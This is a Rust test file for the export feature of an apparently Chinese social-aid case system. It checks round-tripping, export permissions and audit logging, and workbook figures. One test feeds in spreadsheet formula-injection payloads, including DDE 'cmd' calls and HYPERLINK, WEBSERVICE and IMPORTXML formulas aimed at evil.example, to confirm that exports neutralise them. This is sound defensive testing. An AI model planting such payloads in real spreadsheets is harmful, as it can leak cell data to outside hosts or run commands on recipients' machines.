//! Taking data out: what comes back is what went out, nothing runs in a spreadsheet, and it is known who took what.

use super::books::{accepted, decision, of_year, pay, statistics};
use super::support::*;
use super::tables::{counts, take, village};
use serde_json::{Value, json};
use shouwang_node::desk::export::{Export, FileForm, What};
use shouwang_node::desk::import::Mode;
use shouwang_node::desk::statistics::{By, Question};
use shouwang_node::desk::{Command, DeskError, HouseholdChange, Person};
use shouwang_node::store::reader::{Page, YearFilter};
use shouwang_node::tables;
use shouwang_protocol::account::Outcome;
use shouwang_protocol::records::amount::Fen;
use shouwang_protocol::records::event::{Channel, Verdict};
use shouwang_protocol::records::staff::Role;

fn export(what: What, form: FileForm) -> Export {
    Export { what, form, area: None, purpose: "年度复核".into() }
}

async fn export_as(machine: &Machine, person: &Person, form: FileForm) -> Vec<u8> {
    machine.desk.export(person, export(What::Households, form)).await.expect("exports").bytes
}

/// Households as a year of work leaves them: every kind of value, in every field, from a seed.
fn generated(seed: u64, count: u32) -> Vec<u8> {
    let mut state = seed;
    let mut next = move |bound: u64| {
        state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        (state >> 33) % bound
    };
    let texts = ["", "一组", "=1+1", "'引号", "  两端 ", "多\n行\t文", "𠮷·㛃", "\"q\",;", "0012", "(空)", "＝全角"];
    let mut lines = Vec::new();
    for n in 0..count {
        let mut text = |_: &str| texts[next(texts.len() as u64) as usize].to_owned();
        let mut value = json!({
            "id": format!("g{seed}-{n}"), "region": "320582100201", "head": format!("户主{n}"),
            "address": text("a"), "group": text("g"), "remark": text("r"), "type": text("t"), "status": "在档",
            "自定义": text("o"), "低保证号": text("o"), "officer": text("f"), "created_at": "2020-12-05T01:53:01Z",
        });
        let others =
            [json!(null), json!(true), json!(-7), json!(1.25), json!([1, {"深": "层"}]), json!({"a": null}), json!("文")];
        value["编号外"] = others[next(7) as usize].clone();
        value["income_annual"] =
            [json!(null), json!(0), json!(1.1), json!(99_999_999.99), json!("1200")][next(5) as usize].clone();
        value["land_mu"] = [json!(0.5), json!(12), json!(1.125)][next(3) as usize].clone();
        value["phone"] = [json!("051258112345"), json!("13800001111"), json!("不详")][next(3) as usize].clone();
        value["bank_account"] = json!("6217748875587160239");
        let births = [json!(null), json!("1953年"), json!("1960-01-01")];
        let members = (0..next(4)).map(|m| {
            let number =
                [json!(""), json!(id_no(n * 4 + m as u32)), json!("340524800101001")][(m.min(1) + next(2)) as usize % 2].clone();
            json!({"name": format!("成员{m}"), "relation": if m == 0 { "户主" } else { "之子" }, "id_no": number,
                   "birth": births[next(3) as usize].clone(), "insured": next(2) == 1, "爱好": texts[next(11) as usize]})
        });
        value["members"] = members.collect();
        let aid = (0..next(3)).map(|a| json!({"no": format!("{n}-{a}"), "date": "2019-01-10", "program": "低保金", "amount": 945.5, "note": texts[next(11) as usize]}));
        value["aid"] = aid.collect();
        lines.push(value.to_string());
    }
    lines.join("\n").into_bytes()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_exported_jsonl_comes_back_as_unchanged_in_every_row_whatever_the_households_hold() {
    let village = village().await;
    let reviewer = village.person("r", &[Role::Reviewer, Role::Intake]);
    for seed in 1..=6 {
        let done = take(&village, "g.jsonl", &generated(seed, 60), Mode::Write).await;
        assert_eq!(
            counts(&done.report),
            (60, 0, 0, 0),
            "{:?}",
            done.rejects.first().map(|reject| (&reject.field, &reject.reason))
        );
    }
    let bytes = export_as(&village, &reviewer, FileForm::Jsonl).await;
    assert_eq!(bytes.iter().filter(|byte| **byte == b'\n').count(), 360);
    let again = take(&village, "g.jsonl", &bytes, Mode::Check).await;
    assert_eq!(counts(&again.report), (0, 0, 360, 0), "{:?} {:?}", again.shown.first(), again.rejects.first());
    assert_eq!(export_as(&village, &reviewer, FileForm::Jsonl).await, bytes, "the same households, the same bytes");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_plain_register_survives_the_way_through_a_workbook_and_through_a_csv() {
    let village = village().await;
    let reviewer = village.person("r", &[Role::Reviewer, Role::Intake]);
    let mut lines = Vec::new();
    for n in 0..20 {
        let mut household = row(&format!("w{n:02}"), VILLAGE);
        household["members"] = json!([
            {"name": format!("户主w{n:02}"), "relation": "户主", "id_no": id_no(n * 2), "health": "残疾", "爱好": "下棋"},
            {"name": "=1+1", "relation": "之子", "id_no": id_no(n * 2 + 1), "insured": true},
        ]);
        household.insert("低保证号".into(), "0012".into());
        household.insert("备注".into(), "键名也是标签".into());
        for (name, value) in [("group", json!(5)), ("层", json!({"a": [1, null]})), ("是否", json!(true)), ("比", json!(0.25))]
        {
            household.insert(name.into(), value);
        }
        lines.push(Value::from(household).to_string());
    }
    take(&village, "w.jsonl", lines.join("\n").as_bytes(), Mode::Write).await;
    for (name, form) in [("w.xlsx", FileForm::Xlsx), ("w.csv", FileForm::Csv)] {
        let bytes = export_as(&village, &reviewer, form).await;
        let again = take(&village, name, &bytes, Mode::Check).await;
        assert_eq!(counts(&again.report), (0, 0, 20, 0), "{name}: {:?} {:?}", again.shown.first(), again.rejects.first());
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_export_needs_a_role_and_a_purpose_and_stands_in_a_list_that_auditors_read() {
    let village = village().await;
    let household = village.household("k1").await;
    let (clerk, reviewer) = (village.person("c", &[Role::Intake]), village.person("r", &[Role::Reviewer]));
    let auditor = village.person("a", &[Role::Auditor]);
    for person in [&clerk, &auditor] {
        let refused = village.desk.export(person, export(What::Households, FileForm::Xlsx)).await;
        assert!(matches!(refused, Err(DeskError::NotPermitted { .. })));
    }
    let silent = Export { purpose: " ".into(), ..export(What::Households, FileForm::Csv) };
    assert!(matches!(village.desk.export(&reviewer, silent).await, Err(DeskError::Invalid { .. })));
    let abroad = Export { area: Some("320582107201".into()), ..export(What::Households, FileForm::Csv) };
    assert!(village.desk.export(&reviewer, abroad).await.is_err(), "another office's village");
    assert!(village.desk.exports(&auditor, Page::first(9)).await.expect("reads").rows.is_empty(), "nothing went out yet");

    village.open_case(&village.clerk(), application(household)).await;
    for (what, form) in [(What::Households, FileForm::Xlsx), (What::Cases, FileForm::Csv), (What::Cases, FileForm::Xlsx)] {
        let wanted = Export { area: Some("320582100201".into()), ..export(what, form) };
        let exported = village.desk.export(&reviewer, wanted).await.expect("exports");
        assert_eq!(exported.rows, 1);
        if form == FileForm::Csv {
            let text = String::from_utf8(exported.bytes).expect("text");
            assert!(text.contains("\"受理编号\"") && text.contains("\"户主k1\"") && text.contains("\"k1\""), "{text}");
        }
    }
    let listed = village.desk.exports(&auditor, Page::first(2)).await.expect("reads");
    assert!(listed.more && listed.rows.len() == 2);
    assert_eq!((listed.rows[0].staff.as_str(), listed.rows[0].purpose.as_str(), listed.rows[0].rows), ("r", "年度复核", 1));
    assert_eq!(
        (listed.rows[0].what.as_str(), listed.rows[0].form.as_str(), listed.rows[0].area.as_str()),
        ("cases", "xlsx", "320582100201")
    );
    assert!(matches!(village.desk.exports(&reviewer, Page::first(2)).await, Err(DeskError::NotPermitted { .. })));
    let village = village.restart().await;
    assert_eq!(village.desk.exports(&auditor, Page::first(9)).await.expect("reads").rows.len(), 3, "and stays there");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn formulas_in_every_text_field_come_out_harmless() {
    let village = village().await;
    let reviewer = village.person("r", &[Role::Reviewer]);
    let payloads = [
        "=1+1",
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")",
        "=WEBSERVICE(\"http://evil.example\")",
        "=IMPORTXML(\"http://evil.example\",\"//a\")",
        "=DDE(\"cmd\";\"/C calc\";\"x\")",
        "+1+1",
        "+cmd|' /C calc'!A0",
        "-1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "@A1",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "\u{a0}=1+1",
        "\u{feff}=1+1",
        "\u{3000}=1+1",
        "\u{200b}=1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(1)",
        "%0A-3+3+cmd|'!D2",
        "|calc",
        "a;=1+1",
        "a,=1+1",
        "\",=1+1,\"",
        "'=1+1",
        "''=1+1",
        "a\r\n=1+1",
    ];
    let lines: Vec<String> = payloads
        .iter()
        .enumerate()
        .map(|(n, text)| {
            json!({
                "id": format!("{text}{n}"), "region": "320582100201", "head": text, "group": text, "address": text, "type": text, "cause": text,
                "phone": text, "bank": text, "bank_account": text, "officer": text, "remark": text, "status": text, *text: text, "created_at": text,
                "members": [{"name": text, "relation": text, "ethnic": text, "birth": text, "education": text, *text: text}],
                "aid": [{"no": text, "date": text, "program": text, "amount": 1, "officer": text, "note": text, *text: text}],
            })
            .to_string()
        })
        .collect();
    let done = take(&village, "p.jsonl", lines.join("\n").as_bytes(), Mode::Write).await;
    assert_eq!(counts(&done.report), (payloads.len() as u64, 0, 0, 0), "{:?}", done.rejects.first());

    let csv = export_as(&village, &reviewer, FileForm::Csv).await;
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(&csv[3..]);
    let mut fields = 0;
    for record in reader.records() {
        for field in record.expect("a record").iter() {
            let first = field
                .trim_start_matches(|c: char| c.is_whitespace() || c.is_control() || matches!(c, '\u{feff}' | '\u{200b}'))
                .chars()
                .next();
            assert!(!first.is_some_and(|first| "=+-@＝＋－＠|%".contains(first)), "{field:?}");
            fields += 1;
        }
    }
    assert!(fields > payloads.len() * 20);
    assert!(!String::from_utf8_lossy(&csv).lines().any(|line| !line.is_empty() && !line.contains('"')), "every field is quoted");

    let xlsx = export_as(&village, &reviewer, FileForm::Xlsx).await;
    let sheets = tables::xlsx::read(&xlsx).expect("reads");
    assert_eq!(sheets.iter().map(|sheet| sheet.name.as_str()).collect::<Vec<_>>(), ["家庭", "成员", "受助记录"]);
    for payload in payloads {
        let found = sheets.iter().flat_map(|sheet| &sheet.rows).flat_map(|(_, cells)| cells);
        assert!(
            found.filter(|cell| **cell == tables::Cell::Text(payload.to_owned())).count() > 12,
            "{payload:?} is a text, everywhere"
        );
    }
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(xlsx)).expect("an archive");
    for part in 0..archive.len() {
        let mut text = String::new();
        std::io::Read::read_to_string(&mut archive.by_index(part).expect("a part"), &mut text).expect("text");
        assert!(!text.contains("<f>") && !text.contains("<f ") && !text.contains("<hyperlink"), "no formula, no link");
    }
}

/// A cell as a text.
fn text_of(cell: &tables::Cell) -> String {
    match cell {
        tables::Cell::Empty => String::new(),
        tables::Cell::Number(number) => number.to_string(),
        tables::Cell::Text(text) => text.clone(),
        other => panic!("neither text nor number: {other:?}"),
    }
}

/// A sheet of a workbook as texts, without its header row.
fn sheet(bytes: &[u8], name: &str) -> Vec<Vec<String>> {
    let sheets = tables::xlsx::read(bytes).expect("reads");
    let sheet = sheets.iter().find(|sheet| sheet.name == name).unwrap_or_else(|| panic!("no sheet {name}"));
    let width = sheet.rows[0].1.len();
    let row = |cells: &Vec<tables::Cell>| {
        let mut row: Vec<String> = cells.iter().map(text_of).collect();
        row.resize(width, String::new());
        row
    };
    sheet.rows.iter().skip(1).map(|(_, cells)| row(cells)).collect()
}

/// The fen of a cell.
fn fen(text: &str) -> i64 {
    if text.is_empty() { 0 } else { Fen::parse_yuan(text).expect("yuan").0 }
}

/// An office with two households, aid of two years, an approved and a refused application.
async fn a_year_of_books() -> (Machine, Machine) {
    let city = city().await;
    let township = Machine::new(YANGSHE).await;
    sync(&township, &city).await;
    let clerk = township.clerk();
    let (zhang, li) = (township.household("zhang").await, township.household("li").await);
    let row = json!({"no": "=1+1", "date": "2019-02-10", "program": "节日慰问", "amount": 800.5, "fund": "@慈善会"});
    let new_aid = vec![row.as_object().expect("an object").clone()];
    township.done(&clerk, Command::ChangeHousehold(HouseholdChange { new_aid, ..HouseholdChange::of(zhang) })).await;
    let mut cases = Vec::new();
    for household in [zhang, li] {
        cases.push(accepted(&township, &clerk, household, Channel::TownshipWindow).await);
    }
    sync(&township, &city).await;
    let director = city.person("chen", &[Role::Approver]);
    city.stepped(&director, cases[0], decision(Verdict::Approved, "")).await;
    city.stepped(&director, cases[0], pay()).await;
    city.stepped(&director, cases[1], decision(Verdict::Refused, "收入高于标准")).await;
    sync(&township, &city).await;
    (city, township)
}

async fn figures(machine: &Machine, what: What, form: FileForm) -> Vec<u8> {
    let reviewer = machine.person("r", &[Role::Reviewer]);
    machine.desk.export(&reviewer, export(what, form)).await.expect("exports").bytes
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn item_17_item_18_the_annual_files_of_a_year_go_out_as_a_workbook_that_says_the_same_as_each_file() {
    let (_city, township) = a_year_of_books().await;
    let clerk = township.clerk();
    let bytes = figures(&township, What::Years(2019), FileForm::Xlsx).await;
    let (files, aid, lacking) = (sheet(&bytes, "帮扶清单"), sheet(&bytes, "受助明细"), sheet(&bytes, "缺项"));
    let sheets = tables::xlsx::read(&bytes).expect("reads");
    let headers: Vec<String> = sheets[0].rows[0].1.iter().map(text_of).collect();
    let at = |name: &str| headers.iter().position(|header| header == name).unwrap_or_else(|| panic!("no column {name}"));
    let filter = YearFilter { year: 2019, ..YearFilter::default() };
    let list = township.desk.year_list(&clerk, filter, Page::first(100)).await.expect("lists");
    assert_eq!((files.len(), list.files), (2, 2));
    for line in &list.listed.rows {
        let file = township.desk.annual(&clerk, line.row.household, 2019).await.expect("a file").file;
        let key = &file.household.id;
        let row = files.iter().find(|row| row[0] == *key).expect("a row a household");
        assert_eq!((fen(&row[at("受助净额(元)")]), fen(&row[at("受助净额(元)")])), (file.total.0, line.amount.0));
        assert_eq!((row[at("户主")].as_str(), row[at("主要致贫原因")].as_str()), (file.household.head.as_str(), "因病"));
        assert_eq!(row[at("需求评估次数")], file.needs.len().to_string());
        assert!(row[at("审批")].contains(if key == "zhang" { "2835.00" } else { "收入高于标准" }), "{row:?}");
        assert_eq!(row[at("清单")], if file.is_complete() { "完整" } else { "不完整" });
        let own: Vec<&Vec<String>> = aid.iter().filter(|line| line[0] == *key).collect();
        assert_eq!((own.len(), own.iter().map(|line| fen(&line[7])).sum()), (file.aid.len(), file.total.0));
        assert_eq!(lacking.iter().filter(|line| line[0] == *key).count(), file.missing.len());
    }
    assert!(lacking.iter().all(|row| row[5].contains("请")), "each says what to do: {lacking:?}");
    assert!(!headers.iter().any(|header| header.contains("身份证")), "numbers of persons stay in the records");
    let about = sheet(&bytes, "说明");
    let said = |name: &str| about.iter().find(|row| row[0] == name).map(|row| row[1].clone()).unwrap_or_default();
    let sum: i64 = list.listed.rows.iter().map(|line| line.amount.0).sum();
    assert_eq!((fen(&said("受助净额合计(元)")), said("清单份数").as_str()), (sum, "2"));
    assert!(said("截至").starts_with("2019-"), "{about:?}");
    assert_eq!(sheet(&bytes, "含哪些村(社区)").len(), 2);
    assert!(aid.iter().any(|row| row[8] == "受助记录 =1+1"), "a text, and no formula");
    let text = String::from_utf8(figures(&township, What::Years(2019), FileForm::Csv).await).expect("text");
    assert!(text.contains("\"受助净额(元)\"") && text.lines().count() == 3, "{text}");
    let later = township.desk.export(&township.person("r", &[Role::Reviewer]), export(What::Years(2030), FileForm::Xlsx)).await;
    assert!(matches!(later, Err(DeskError::NotFound { .. })), "a year that has not come");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn item_19_item_52_the_tables_of_statistics_go_out_with_their_queries_and_every_sum_equals_the_page() {
    let (city, township) = a_year_of_books().await;
    for machine in [&city, &township] {
        let question = of_year(2019);
        let bytes = figures(machine, What::Statistics(question.clone(), By::Household), FileForm::Xlsx).await;
        let found = statistics(machine, &question, By::Household).await;
        let tables_of_aid = [
            ("受助按救助种类", By::Kind),
            ("受助按主管部门", By::Department),
            ("受助按资金来源", By::Fund),
            ("受助按村(社区)", By::Village),
            ("受助按月份", By::Period),
            ("受助按家庭", By::Household),
        ];
        for (name, by) in tables_of_aid {
            let rows = sheet(&bytes, name);
            let of_page = statistics(machine, &question, by).await.by_picked.rows;
            assert_eq!(rows.len(), of_page.len() + 1, "{name}");
            for (row, group) in rows.iter().zip(&of_page) {
                assert_eq!((row[0].as_str(), fen(&row[3])), (group.label.as_str(), group.group.amount.0), "{name}");
                assert_eq!(row[1], group.group.count.to_string());
            }
            let sum: i64 = rows[..of_page.len()].iter().map(|row| fen(&row[3])).sum();
            assert_eq!((sum, sum), (fen(&rows[of_page.len()][3]), found.total.rows[0].group.amount.0), "{name}");
        }
        let cases = sheet(&bytes, "事项按登记渠道");
        assert_eq!(cases.last().expect("a total")[1..5], ["2", "1", "1", "0"]);
        let categories = sheet(&bytes, "家庭按身份类别");
        let shown = &found.categories;
        for (row, of_page) in categories.iter().zip(&shown.rows.rows) {
            assert_eq!(row[1], of_page.households.to_string(), "{row:?}");
        }
        let last: Vec<&str> = categories[shown.rows.rows.len()..].iter().map(|row| row[1].as_str()).collect();
        assert_eq!(last, [shown.sum.to_string(), shown.households.rows[0].to_string()]);
        let about = sheet(&bytes, "说明");
        for (name, hash, query) in [
            ("受助合计", &found.total.hash, &found.total.query),
            ("受助按救助种类", &found.by_kind.hash, &found.by_kind.query),
            ("事项按登记渠道", &found.by_channel.hash, &found.by_channel.query),
        ] {
            let row = about.iter().find(|row| row[0] == name).unwrap_or_else(|| panic!("{name}: {about:?}"));
            assert_eq!((&row[2], &row[3]), (hash, query), "the same figure as on the page");
        }
        let sheets = tables::xlsx::read(&bytes).expect("reads");
        assert!(!sheets.iter().any(|sheet| sheet.name == "受助按个人"), "names of people only as on the page");
        assert!(sheets.iter().any(|sheet| sheet.name == "指标"));

        let kind = found.by_kind.rows.iter().find(|group| group.label == "节日慰问").expect("a kind");
        let items = sheet(&figures(machine, What::Benefits(kind.question.clone()), FileForm::Xlsx).await, "受助明细");
        assert_eq!((items.len(), fen(&items[0][6])), (1, kind.group.amount.0));
        let refused = Question { application: Some(true), outcome: Some(Outcome::Refused), ..question };
        let list = figures(machine, What::Accounts(refused), FileForm::Csv).await;
        assert!(String::from_utf8(list).expect("text").contains("\"收入高于标准\""));
    }
    let reviewer = township.person("r", &[Role::Reviewer]);
    let flat = township.desk.export(&reviewer, export(What::Statistics(of_year(2019), By::Kind), FileForm::Csv)).await;
    assert!(flat.err().expect("refused").what().contains("只能导出 .xlsx"));
    let auditor = township.person("a", &[Role::Auditor]);
    let forced = township.desk.export(&auditor, export(What::Statistics(of_year(2019), By::Kind), FileForm::Xlsx)).await;
    assert!(matches!(forced, Err(DeskError::NotPermitted { .. })), "who reads figures does not take them out");
    let listed = township.desk.exports(&auditor, Page::first(9)).await.expect("reads").rows;
    let words: Vec<&str> = listed.iter().map(|row| row.what.as_str()).collect();
    assert_eq!(words, ["statistics_cases", "statistics_items", "statistics"]);
}
